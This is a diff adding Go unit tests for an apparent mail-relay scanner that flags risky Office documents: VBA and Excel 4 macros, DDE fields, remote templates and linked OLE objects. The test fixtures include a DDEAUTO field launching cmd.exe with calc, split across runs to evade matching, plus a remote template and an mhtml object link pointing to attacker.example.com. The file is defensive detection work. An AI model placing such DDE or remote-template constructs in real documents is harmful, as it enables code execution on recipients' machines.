@@ -0,0 +1,223 @@
+package office
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"testing"
+
+	"github.com/decke/smtprelay/internal/app/processors/ole2"
+	processortypes "github.com/decke/smtprelay/internal/app/processors/processor_types"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func buildPackage(t *testing.T, parts map[string]string) []byte {
+	buf := &bytes.Buffer{}
+	w := zip.NewWriter(buf)
+	for name, content := range parts {
+		f, err := w.Create(name)
+		require.NoError(t, err)
+		_, err = f.Write([]byte(content))
+		require.NoError(t, err)
+	}
+	require.NoError(t, w.Close())
+	return buf.Bytes()
+}
+
+const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`
+
+func TestInspectPackage(t *testing.T) {
+	tests := []struct {
+		name     string
+		parts    map[string]string
+		expected []processortypes.Indicator
+	}{
+		{
+			name: "clean document",
+			parts: map[string]string{
+				"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>DDEAUTO is only text here</w:t></w:r></w:p></w:body></w:document>`,
+				"word/embeddings/Microsoft_Excel_Worksheet.xlsx": string(buildPackage(t, map[string]string{
+					"[Content_Types].xml": contentTypes,
+				})),
+			},
+			expected: []processortypes.Indicator{},
+		},
+		{
+			name:     "vba project",
+			parts:    map[string]string{"word/vbaProject.bin": "\xd0\xcf\x11\xe0"},
+			expected: []processortypes.Indicator{processortypes.VBAMacro},
+		},
+		{
+			name:     "excel 4 macro sheet",
+			parts:    map[string]string{"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
+			expected: []processortypes.Indicator{processortypes.XLMMacro},
+		},
+		{
+			name: "dde field split over runs",
+			parts: map[string]string{
+				"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p>` +
+					`<w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
+					`<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>` +
+					`<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>` +
+					`<w:r><w:fldChar w:fldCharType="end"/></w:r>` +
+					`</w:p></w:body></w:document>`,
+			},
+			expected: []processortypes.Indicator{processortypes.DDE},
+		},
+		{
+			name:     "dde simple field",
+			parts:    map[string]string{"word/footer1.xml": `<w:ftr xmlns:w="w"><w:fldSimple w:instr="DDE cmd"/></w:ftr>`},
+			expected: []processortypes.Indicator{processortypes.DDE},
+		},
+		{
+			name:     "excel dde link",
+			parts:    map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`},
+			expected: []processortypes.Indicator{processortypes.DDE},
+		},
+		{
+			name: "remote template",
+			parts: map[string]string{
+				"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" ` +
+					`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
+					`Target="http://attacker.example.com/template.dotm" TargetMode="External"/></Relationships>`,
+			},
+			expected: []processortypes.Indicator{processortypes.ExternalTemplate},
+		},
+		{
+			name: "local template",
+			parts: map[string]string{
+				"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" ` +
+					`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
+					`Target="Normal.dotm"/></Relationships>`,
+			},
+			expected: []processortypes.Indicator{},
+		},
+		{
+			name: "linked ole object",
+			parts: map[string]string{
+				"word/_rels/document.xml.rels": `<Relationships><Relationship Id="rId9" ` +
+					`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" ` +
+					`Target="mhtml:http://attacker.example.com/x!x-usc:http://attacker.example.com/x" TargetMode="External"/></Relationships>`,
+			},
+			expected: []processortypes.Indicator{processortypes.EmbeddedObject},
+		},
+		{
+			name: "macro document embedded in a document",
+			parts: map[string]string{
+				"word/embeddings/Microsoft_Word_Macro-Enabled_Document.docm": string(buildPackage(t, map[string]string{
+					"word/vbaProject.bin": "",
+				})),
+			},
+			expected: []processortypes.Indicator{processortypes.VBAMacro},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.parts["[Content_Types].xml"] = contentTypes
+			indicators, err := Inspect(buildPackage(t, tt.parts), processortypes.OOXML)
+			require.NoError(t, err)
+			assert.Equal(t, tt.expected, indicators)
+		})
+	}
+}
+
+// biffRecord encodes one record of an Excel workbook stream
+func biffRecord(record uint16, data []byte) []byte {
+	buf := &bytes.Buffer{}
+	binary.Write(buf, binary.LittleEndian, record)
+	binary.Write(buf, binary.LittleEndian, uint16(len(data)))
+	buf.Write(data)
+	return buf.Bytes()
+}
+
+func TestInspectCompound(t *testing.T) {
+	worksheet := biffRecord(biffBoundSheet, []byte{0, 0, 0, 0, 0, 0x00, 1, 'A'})
+	macroSheet := biffRecord(biffBoundSheet, []byte{0, 0, 0, 0, 2, sheetMacro, 1, 'M'})
+	wordText := []byte("\x00\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \x14\x15")
+	wordUnicode := []byte{}
+	for _, c := range []byte("\x13 dde cmd \x14\x15") {
+		wordUnicode = append(wordUnicode, c, 0)
+	}
+	tests := []struct {
+		name     string
+		entries  []*ole2.Entry
+		streams  map[string][]byte
+		expected []processortypes.Indicator
+	}{
+		{
+			name: "word macros",
+			entries: []*ole2.Entry{
+				{Name: "WordDocument", Path: "WordDocument"},
+				{Name: "Macros", Path: "Macros", IsStorage: true},
+				{Name: "VBA", Path: "Macros/VBA", IsStorage: true},
+				{Name: "_VBA_PROJECT", Path: "Macros/VBA/_VBA_PROJECT"},
+			},
+			streams:  map[string][]byte{"WordDocument": []byte("plain text")},
+			expected: []processortypes.Indicator{processortypes.VBAMacro},
+		},
+		{
+			name:     "excel 4 macro sheet",
+			entries:  []*ole2.Entry{{Name: "Workbook", Path: "Workbook"}},
+			streams:  map[string][]byte{"Workbook": append(append([]byte{}, worksheet...), macroSheet...)},
+			expected: []processortypes.Indicator{processortypes.XLMMacro},
+		},
+		{
+			name:     "worksheets only",
+			entries:  []*ole2.Entry{{Name: "Workbook", Path: "Workbook"}},
+			streams:  map[string][]byte{"Workbook": worksheet},
+			expected: []processortypes.Indicator{},
+		},
+		{
+			name:     "dde field",
+			entries:  []*ole2.Entry{{Name: "WordDocument", Path: "WordDocument"}},
+			streams:  map[string][]byte{"WordDocument": wordText},
+			expected: []processortypes.Indicator{processortypes.DDE},
+		},
+		{
+			name:     "dde field in unicode text",
+			entries:  []*ole2.Entry{{Name: "WordDocument", Path: "WordDocument"}},
+			streams:  map[string][]byte{"WordDocument": wordUnicode},
+			expected: []processortypes.Indicator{processortypes.DDE},
+		},
+		{
+			name: "embedded objects",
+			entries: []*ole2.Entry{
+				{Name: "ObjectPool", Path: "ObjectPool", IsStorage: true},
+				{Name: "_1234567890", Path: "ObjectPool/_1234567890", IsStorage: true},
+				{Name: "\x01Ole10Native", Path: "ObjectPool/_1234567890/\x01Ole10Native"},
+			},
+			expected: []processortypes.Indicator{processortypes.EmbeddedObject},
+		},
+		{
+			name:     "empty object pool",
+			entries:  []*ole2.Entry{{Name: "ObjectPool", Path: "ObjectPool", IsStorage: true}},
+			expected: []processortypes.Indicator{},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			found := map[processortypes.Indicator]bool{}
+			read := func(entry *ole2.Entry) ([]byte, error) {
+				if stream, ok := tt.streams[entry.Path]; ok {
+					return stream, nil
+				}
+				return nil, errors.New("no such stream")
+			}
+			inspectCompound(tt.entries, read, found)
+			indicators := []processortypes.Indicator{}
+			for indicator := range found {
+				indicators = append(indicators, indicator)
+			}
+			assert.Equal(t, tt.expected, indicators)
+		})
+	}
+}
+
+func TestInspectRejectsOtherFiles(t *testing.T) {
+	_, err := Inspect([]byte("%PDF-1.7"), processortypes.PDF)
+	assert.ErrorIs(t, err, ErrNotOffice)
+	_, err = Inspect([]byte("not a zip"), processortypes.OOXML)
+	assert.Error(t, err)
+}